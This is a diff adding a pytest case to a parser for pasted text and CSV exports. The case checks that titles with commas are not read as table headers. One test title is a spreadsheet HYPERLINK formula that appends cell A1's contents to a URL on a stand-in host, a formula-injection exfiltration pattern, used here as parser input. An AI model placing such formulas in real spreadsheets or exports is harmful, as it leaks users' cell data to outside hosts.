@@ -277,3 +277,14 @@ def test_quotes_behind_a_backslash_are_those_of_a_cell(tmp_path: Path) -> None:
     doubled = 'title,text\n"A ""b"" \\","c\\"\n"D","e ""f"""\n'
     found = read_export(written(tmp_path / "b.csv", doubled))
     assert [one["title"] for one in found.records] == ['A "b" \\', "D"]
+
+
+@pytest.mark.parametrize(
+    "title", ['=HYPERLINK("http://quay.example?x="&A1,"Story")', "https://quay.example/a,title", "f(text,title"]
+)
+def test_a_title_with_a_comma_and_a_word_for_a_column_is_no_head_of_a_table(tmp_path: Path, title: str) -> None:
+    body = "Officials said on Friday that it would sail, as they had hoped.\nThe harbour, they said, is ready for it."
+    dump = f"{title}\nQuay | May 3, 2024\n{body}\n\nMill stops\nQuay | May 4, 2024\n{body}\n"
+    records = read_export(written(tmp_path / "a.txt", dump)).records
+    assert [record["provenance"]["layout"] for record in records] == ["pasted", "pasted"]
+    assert records[0]["title"] == title
